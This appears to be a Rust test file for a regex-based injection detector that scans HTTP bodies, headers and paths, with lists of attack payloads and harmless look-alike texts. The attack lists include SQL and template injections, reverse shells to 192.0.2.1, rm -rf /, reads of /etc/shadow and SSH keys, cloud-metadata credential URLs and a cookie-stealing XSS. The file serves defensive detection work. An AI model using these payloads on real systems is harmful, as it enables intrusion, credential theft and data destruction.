use regex::bytes::{Regex, RegexBuilder};

use super::*;

fn compile(pattern: &str) -> Regex {
    let mut builder = RegexBuilder::new(pattern);
    builder.case_insensitive(true).unicode(false);
    builder.build().unwrap()
}

/// The kinds that are found in a place.
fn found(patterns: &[(&Predefined, Regex)], place: Place, text: &str) -> Vec<&'static str> {
    let here = patterns.iter().filter(|(it, _)| it.places.contains(&place));
    let matching = here.filter(|(_, pattern)| pattern.is_match(text.as_bytes()));
    let mut kinds: Vec<_> = matching.map(|(it, _)| it.kind.name()).collect();
    kinds.dedup();
    kinds
}

fn compiled() -> Vec<(&'static Predefined, Regex)> {
    let patterns = PREDEFINED.iter();
    patterns.map(|it| (it, compile(it.pattern))).collect()
}

/// Strings that are attacks wherever they stand.
const ATTACKS: &[(InjectionKind, &[&str])] = &[
    (
        Sql,
        &[
            "admin' OR 1=1 --",
            "x' or 1=1",
            "x') or (1=1)#",
            "' OR '1'='1",
            "log in as admin' or 'a'='a please",
            "' or 'abc'='abc' --",
            "Robert'); DROP TABLE students;--",
            "x'; delete from users where 1=1; --",
            "1' UNION SELECT username, password FROM users --",
            "\" union all select null,null,version()#",
            "' AND SLEEP(5)--",
            "'; WAITFOR DELAY '0:0:5'--",
            "' || pg_sleep(10)--",
        ],
    ),
    (
        Nosql,
        &[
            r#"{"username": "admin", "password": {"$ne": null}}"#,
            r#"{'pwd': {'$gt': ''}}"#,
            "username[$ne]=x&password[$ne]=x",
            "' || '1'=='1",
            "' || 1==1//",
            "'; return true; var x='",
        ],
    ),
    (
        Command,
        &[
            "8.8.8.8; cat /etc/passwd",
            "x | /bin/cat /etc/shadow",
            "$(cat /etc/passwd)",
            "x; rm -rf /",
            "x && rm -rf --no-preserve-root /*",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc 192.0.2.1 4444 -e /bin/sh",
            "ncat -nve /bin/bash 192.0.2.1 1",
            "() { :;}; /bin/id",
            r"x & type c:\windows\win.ini",
            "x | net user evil pass /add",
        ],
    ),
    (
        Path,
        &[
            "../../../../etc/passwd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%252f..%252f..%252fetc%252fshadow",
            r"..\..\..\windows\system32",
            "../../proc/self/environ",
            "../../root/.ssh/id_rsa",
        ],
    ),
    (
        Ldap,
        &[
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "admin)(|(password=*)",
            "*)(objectClass=*))",
            "x)(!(&(1=0",
        ],
    ),
    (
        Xml,
        &[
            r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
            r#"<!ENTITY % p SYSTEM 'php://filter/resource=x'>"#,
            r#"<!ENTITY b "&a;&a;&a;&a;&a;&a;">"#,
            r#"<xi:include parse="text" href="file:///etc/hosts"/>"#,
        ],
    ),
    (
        Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "dict://localhost:11211/%0astats",
        ],
    ),
    (
        File,
        &[
            "php://filter/convert.base64-encode/resource=index.php",
            "expect://id",
            "data://text/plain;base64,PD9waHAgc3lzdGVt",
            "file:///etc/passwd",
        ],
    ),
    (
        Template,
        &[
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            r#"<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}"#,
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://192.0.2.1/a}",
            "${${lower:j}ndi:rmi://192.0.2.1/a}",
        ],
    ),
    (
        Xpath,
        &[
            "x'] | //user/* | a['",
            "' or count(/*)=1 or 'a'='b",
            "x']/parent::*/child::node()[ '",
        ],
    ),
    (
        Header,
        &[
            "en%0d%0aSet-Cookie:%20admin=1%0d%0a",
            "en%0aLocation%3ahttp://192.0.2.1%0a",
        ],
    ),
    (
        Xss,
        &[
            "<script>alert(1)</script>",
            "\"><script >alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert`1`>",
            "<svg onload=\"alert(document.domain)\">",
            "javascript:alert('xss')",
            "<script>document.location='http://192.0.2.1/?c='+document.cookie</script>",
        ],
    ),
];

/// What people write who attack nothing.
const HARMLESS: &[&str] = &[
    "It's 5 o'clock; drop the table off at Bob's, or don't -- I don't mind # really",
    "Don't worry, '1' or '2' is fine; select a union representative from the list.",
    "SELECT name FROM users WHERE id = 1 UNION SELECT name FROM admins -- both",
    "SELECT * FROM t WHERE a = 'x' AND b = 'y' OR c = 'z'; -- note",
    "SELECT * FROM t WHERE a = 'b' AND 1=1",
    "SELECT * FROM t WHERE 1=1 AND name = 'x' AND age > 18",
    "INSERT INTO t VALUES ('a');\nDROP TABLE t; -- cleanup",
    "CREATE TABLE x (id int); INSERT INTO x VALUES (1);",
    "printf(\"x\"); sleep(5); if (a == 'b' || c == 1) { return true; }",
    "db.users.find({age: {$gt: 18}, name: {$ne: null}, tags: {$in: ['a']}})",
    "{\"password\": {\"$exists\": true}, \"a\": \"\\r\\nLocation: /x\"}",
    "{\"password\": {\"type\": \"string\"}, \"$ref\": \"#/x\"}",
    "$map[$in] = 1; foreach ($a as $key) { echo $rows[$key]; }",
    "curl -fsSL https://get.example.com | sh && apt-get install -y curl; ls -la | grep x",
    "RUN apt-get update && rm -rf /var/lib/apt/lists/* && rm -rf ./build",
    "What does `cat /etc/passwd` print? And `rm -rf /`?",
    "echo $(whoami); nc -zv localhost 80; ping -c 1 10.0.0.1",
    "| id | name | whoami |\n|----|------|---|\n| 1 | cat | dog |",
    "import x from '../../../components/Button'; require('../../config')",
    "see ../../docs/etc/readme.md and /etc/hosts",
    "(&(objectClass=person)(|(uid=jdoe)(mail=*@example.com)))",
    "(&(&(a=b)(c=d))(|(uid=*)(cn=x)))",
    "f(x)(y), smile :) (mail me) and foo(a)(b)",
    "(self.handler\n)(&x);\nlast)(&request)",
    "<?xml version=\"1.0\"?><!DOCTYPE html><html xmlns=\"http://www.w3.org/1999/xhtml\"/>",
    "<!ENTITY copyright \"&#169; Us &amp; Co\"> <!ENTITY ch SYSTEM \"chapter1.xml\">",
    "my router is at 192.168.1.1, the app at http://localhost:3000/ and http://127.0.0.1:8080/x",
    "curl http://169.254.169.254/latest/meta-data/instance-id tells the instance",
    "file_get_contents('php://input') and include 'header.php'; file:///home/me/a.txt",
    "Jinja: {{ user.name }}, {% for a in b %}, {{ 7 * 7 }} is 49; JS: `${a * b}`",
    "class A: def __init__(self): self.__class__.__name__",
    "//book[price > 35]/title | //cd[@id='x' and count(track)=1]",
    "//user[name='x' or contains(@class, 'y')]",
    "HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\nhi",
    "<script src=\"a.js\"></script><script>console.log('hi')</script>",
    "<body class=\"x\"><script>alert('Hello, world!')</script>",
    "<img src=\"a.png\" onerror=\"this.src='b.png'\"> <a href=\"javascript:void(0)\">x</a>",
    "# Title\n\n- **bold** -- and `code`; see [link](https://example.com/?a=1&b=2#c)",
    "Überprüfe die Größe; 做炸弹 — «ça va» ' \" ; -- /* */ #",
];

/// What heads of ordinary requests have in them.
const HARMLESS_HEADS: &[(Place, &str)] = &[
    (
        Headers,
        "Mozilla/5.0 (X11; Linux x86_64; rv:1) Gecko/20100101 (KHTML, like Gecko)",
    ),
    (Headers, "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
    (Headers, "http://localhost:3000/chat?id=1#top"),
    (Headers, "Basic; realm=\"x\", sh; id=7"),
    (Headers, "OpenAI/Python 1.0; arch=x64; lang=python"),
    (PathAndQuery, "/v1/chat/completions"),
    (
        PathAndQuery,
        "/v1beta/models/gemini-2.5-pro:streamGenerateContent",
    ),
    (PathAndQuery, "alt=sse"),
    (PathAndQuery, "callback=https://example.com/back"),
    (PathAndQuery, "q=select a union; drop me a line (x)"),
];

/// What is an attack in a head only.
const HEAD_ATTACKS: &[(InjectionKind, Place, &str)] = &[
    (Sql, PathAndQuery, "id=1 UNION SELECT 1,2"),
    (Sql, Headers, "1 or 1=1 --"),
    (Nosql, PathAndQuery, "a[$ne]=1"),
    (Command, Headers, "x; wget 192.0.2.1/x"),
    (Command, PathAndQuery, "host=x|id"),
    (Path, PathAndQuery, "/v1/../../secret"),
    (Path, PathAndQuery, "name=a%00.png"),
    (Ldap, PathAndQuery, "user=x)(cn=y"),
    (Xml, Headers, "<!DOCTYPE x>"),
    (Ssrf, PathAndQuery, "url=http://10.0.0.1/admin"),
    (Ssrf, PathAndQuery, "url=http://169.254.169.254/"),
    (File, PathAndQuery, "page=php://input"),
    (Template, PathAndQuery, "name={{7*7}}"),
    (Header, PathAndQuery, "lang=en\r\nX-Evil: 1"),
    (Xss, PathAndQuery, "q=<script>"),
];

#[test]
fn attacks_are_found_wherever_they_stand() {
    let patterns = compiled();
    let mut missed = Vec::new();
    for (kind, attacks) in ATTACKS {
        for attack in *attacks {
            for place in [Body, Headers, PathAndQuery] {
                if !found(&patterns, place, attack).contains(&kind.name()) {
                    missed.push((place, attack));
                }
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn harmless_texts_pass() {
    let patterns = compiled();
    let found = HARMLESS
        .iter()
        .map(|text| (text, found(&patterns, Body, text)));
    let found: Vec<_> = found.filter(|(_, kinds)| !kinds.is_empty()).collect();
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn heads_have_less_to_say() {
    let patterns = compiled();
    for (place, text) in HARMLESS_HEADS {
        let found = found(&patterns, *place, text);
        assert!(found.is_empty(), "{text}: {found:?}");
    }
    for (kind, place, attack) in HEAD_ATTACKS {
        let in_head = found(&patterns, *place, attack);
        assert!(in_head.contains(&kind.name()), "{attack}: {in_head:?}");
        let in_body = found(&patterns, Body, attack);
        assert!(!in_body.contains(&kind.name()), "{attack}: {in_body:?}");
    }
}

#[test]
fn every_pattern_is_needed() {
    let patterns = compiled();
    for (predefined, pattern) in &patterns {
        let attacks = ATTACKS.iter().filter(|(kind, _)| *kind == predefined.kind);
        let mut texts: Vec<&str> = attacks
            .flat_map(|(_, attacks)| attacks.iter().copied())
            .collect();
        texts.extend(HEAD_ATTACKS.iter().map(|(_, _, attack)| *attack));
        let is_tried = texts.iter().any(|text| pattern.is_match(text.as_bytes()));
        assert!(is_tried, "no example of {}", predefined.pattern);
    }
}
